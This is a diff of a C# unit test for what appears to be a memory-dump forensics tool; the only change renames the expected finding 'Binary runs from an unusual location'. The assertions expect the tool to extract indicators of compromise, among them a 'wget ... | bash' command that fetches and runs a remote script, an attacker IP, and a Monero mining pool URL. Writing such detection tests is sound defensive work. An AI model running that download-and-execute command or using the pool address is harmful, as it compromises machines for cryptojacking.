@@ -17,7 +17,7 @@ public sealed class SyntheticDumpTests
         result.MappedFiles.Count.ShouldBe(2);
         result.MappedFiles[0].ShouldBe(new MappedFile(0x400000, 0x401000, 0, SyntheticDumps.CoreBinary));
         result.Findings.ShouldContain(f => f.Severity == FindingSeverity.Critical && f.Detail.Contains("ppid 1"));
-        result.Findings.ShouldContain(f => f.Title == "Binary runs from an unusual or hidden location" && f.Detail == SyntheticDumps.CoreBinary);
+        result.Findings.ShouldContain(f => f.Title == "Binary runs from an unusual location" && f.Detail == SyntheticDumps.CoreBinary);
         result.Indicators.ShouldContain(i => i.Type == IndicatorType.Command && i.Value.StartsWith("wget -q -O- http://45.9.148.99/k.sh | bash"));
         result.Indicators.ShouldContain(i => i.Type == IndicatorType.Ip && i.Value == "45.9.148.99");
         var stratum = result.Indicators.First(i => i.Type == IndicatorType.Url && i.Value == "stratum+tcp://xmr.c3pool.com:13333");
